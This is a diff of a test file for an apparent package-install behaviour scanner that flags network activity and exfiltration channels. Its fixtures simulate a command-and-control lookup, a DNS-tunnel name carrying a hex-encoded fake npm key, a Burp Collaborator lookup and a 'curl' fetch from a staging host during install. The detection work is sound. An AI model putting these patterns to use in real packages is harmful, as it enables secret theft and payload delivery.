@@ -3,7 +3,7 @@ import { BehaviorBuilder } from '../__fixtures__/builder.js';
 import { fired, run } from '../__fixtures__/run.js';
 
 describe('network-activity', () => {
-  it('rates a connection to an unknown host high, one finding per host, naming it', () => {
+  it('rates a connection to an unknown host high, one finding per destination domain, naming the host', () => {
     const b = new BehaviorBuilder();
     const node = b.lifecycle('node x.js');
     b.dns('c2.attacker.example', node);
@@ -38,12 +38,13 @@ describe('network-activity', () => {
     expect(fired(run(b), 'network-activity')[0]?.phase).toBe('import');
   });
 
-  it('rates DNS-tunnel names and exfiltration services high even without a connection', () => {
+  it('rates DNS-tunnel names high, and names out-of-band servers as exfiltration channels, even without a connection', () => {
     const b = new BehaviorBuilder();
     b.dns('6e706d5f464146454b45595f666f725f746573747335.x.attacker.example');
     b.dns('abc.oastify.com');
-    const found = fired(run(b), 'network-activity');
-    expect(found.map((f) => f.severity)).toEqual(['high', 'high']);
+    expect(fired(run(b), 'network-activity').map((f) => f.severity)).toEqual(['high']);
+    const [channel] = fired(run(b), 'exfiltration-channel');
+    expect([channel?.title, channel?.severity]).toEqual(['Looks up a Burp Collaborator server (oastify.com) during install', 'high']);
   });
 
   it('rates a download from the GitHub release host low and says so', () => {
@@ -137,6 +138,17 @@ describe('network-activity', () => {
     const [f] = fired(run(b), 'network-activity');
     expect(f?.title).toBe('Contacts 8.8.8.8 during install');
     expect(f?.severity).toBe('high');
+  });
+
+  it("does not count getaddrinfo's UDP address-selection connects (nothing sent) as contact", () => {
+    const b = new BehaviorBuilder();
+    const curl = b.lifecycle('curl -s http://stage.example/x');
+    b.dns('stage.example', curl);
+    b.connect(curl, '141.94.57.251', 80, { protocol: 'udp', result: 'ok', hostname: 'stage.example' });
+    b.connect(curl, '2001:41d0::1', 80, { protocol: 'udp', family: 'inet6', result: 'ok', hostname: 'stage.example' });
+    const [f] = fired(run(b), 'network-activity');
+    expect([f?.title, f?.severity]).toEqual(['Looks up stage.example during install', 'medium']);
+    expect(f?.evidence.map((e) => e.kind)).toEqual(['dns']);
   });
 
   it('rates a listening socket on all interfaces medium, but not a loopback-only server', () => {
